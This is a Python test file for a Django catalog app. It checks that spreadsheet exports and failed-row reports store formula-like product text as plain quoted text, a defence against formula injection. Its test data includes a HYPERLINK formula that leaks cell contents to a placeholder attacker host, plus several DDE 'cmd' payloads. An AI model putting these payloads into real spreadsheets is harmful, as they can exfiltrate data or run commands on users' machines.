"""The owner's catalog export and the failed-rows report write formula-like text as text (issue 14, item 7):
a product named ``=HYPERLINK(...)`` comes out as that text in a text cell, never as a formula."""

import io

import openpyxl
import pytest
from django.test import TestCase
from django.urls import reverse

from sme.imports.services import import_job_confirm
from tests.sme.catalog.factories import ProductFactory, VariantFactory, member

from .sheets import KEYS, create_job, upload

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.example/?d="&A3,"Xem ảnh")'
BRAND = "+cmd|' /C calc'!A0"
DESCRIPTION = "@SUM(1+1)*cmd|' /C calc'!A0"
OPTION = "-2+3+cmd|' /C calc'!A0"


def _cells_of(content: bytes, row: int) -> dict:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    return {key: sheet.cell(row=row, column=index + 1) for index, key in enumerate(KEYS + ["problems"])}


def test_catalog_export_writes_hostile_product_text_as_text(client):
    # given a product whose texts start like formulas
    owner = member()
    product = ProductFactory(business=owner.business, key="=KEY", name=NAME, brand=BRAND, description=DESCRIPTION,
                             option1_name="\tLoại")
    VariantFactory(product=product, sku="@SKU-1", option1_value=OPTION, price=85_000, stock=7)
    client.force_login(owner.user)
    # when
    cells = _cells_of(client.get(reverse("imports:export")).content, row=3)
    # then every such cell is text holding exactly what the owner typed, and the numbers stay numbers
    for key, text in [("product_key", "=KEY"), ("name", NAME), ("brand", BRAND), ("description", DESCRIPTION),
                      ("option1_name", "\tLoại"), ("option1_value", OPTION), ("sku", "@SKU-1")]:
        assert (cells[key].data_type, cells[key].value, cells[key].quotePrefix) == ("s", text, True), key
    assert (cells["price"].data_type, cells["price"].value) == ("n", 85_000)
    assert (cells["stock"].data_type, cells["stock"].value) == ("n", 7)


def test_failed_rows_report_writes_hostile_text_from_the_uploaded_sheet_as_text(client):
    # given a sheet whose failing row holds formula-like text (typed as text, so the import reads it)
    owner = member()
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["product_key", "name", "brand", "sku", "price"])
    sheet.append(["SEN", "Trà sen", "", "SEN-1", 120000])
    sheet.append(["BAD", NAME, BRAND, "BAD-1", "-5"])
    sheet.cell(row=3, column=2).data_type = "s"
    out = io.BytesIO()
    workbook.save(out)
    job = create_job(business=owner.business, actor=owner.user, sheet=upload(out.getvalue(), "x.xlsx"))
    with TestCase.captureOnCommitCallbacks(execute=True):
        import_job_confirm(job=job)
    client.force_login(owner.user)
    # when
    cells = _cells_of(client.get(reverse("imports:job_report", args=[job.pk])).content, row=3)
    # then
    assert (cells["name"].data_type, cells["name"].value, cells["name"].quotePrefix) == ("s", NAME, True)
    assert (cells["brand"].data_type, cells["brand"].value) == ("s", BRAND)
    assert (cells["price"].data_type, cells["price"].value) == ("s", "-5")  # as typed: a number, not a formula
    assert cells["problems"].data_type == "s" and "[" in cells["problems"].value
